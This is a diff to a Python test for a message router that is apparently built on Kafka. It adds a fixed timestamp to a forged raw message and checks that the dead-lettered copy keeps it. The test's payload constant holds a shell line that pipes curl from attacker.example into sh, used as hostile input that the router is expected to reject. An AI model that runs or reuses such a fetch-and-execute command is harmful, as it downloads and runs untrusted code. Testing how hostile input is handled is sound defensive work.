@@ -353,6 +353,7 @@ def test_the_deliver_command_writes_files_and_stops_on_sigterm(
 
 
 SCRIPT = "#!/bin/sh\ncurl -s https://attacker.example/x | sh\n"
+WRITTEN = 1_790_000_000_000
 
 
 def test_a_forged_delivery_goes_only_where_the_rules_say_and_the_unfit_are_dead_lettered(
@@ -375,7 +376,9 @@ def test_a_forged_delivery_goes_only_where_the_rules_say_and_the_unfit_are_dead_
     codec, topic = Codec(), settings.delivery_topic("p")
     for record in (elsewhere, renamed):  # written to p's topic, whatever they say
         producer.produce(topic, key=b"x", value=codec.encode(topic, "LeadDelivery", record))
-    producer.produce(topic, key=b"raw", value=SCRIPT.encode(), headers=[("origin", b"test")])
+    producer.produce(
+        topic, key=b"raw", value=SCRIPT.encode(), headers=[("origin", b"test")], timestamp=WRITTEN
+    )
     assert producer.flush(30) == 0
     publish_deliveries(settings, [after])
 
@@ -414,7 +417,7 @@ def test_a_forged_delivery_goes_only_where_the_rules_say_and_the_unfit_are_dead_
     ]
     assert [r["headers"]["lead-router.source.offset"] for r in dead] == [b"2", b"3", b"4"]
     assert {r["headers"]["lead-router.source.topic"] for r in dead} == {topic.encode()}
-    assert dead[2]["headers"]["origin"] == b"test"
+    assert (dead[2]["headers"]["origin"], dead[2]["timestamp"]) == (b"test", WRITTEN)
     assert worker_counts("p")["invalid"] >= 3
 
 
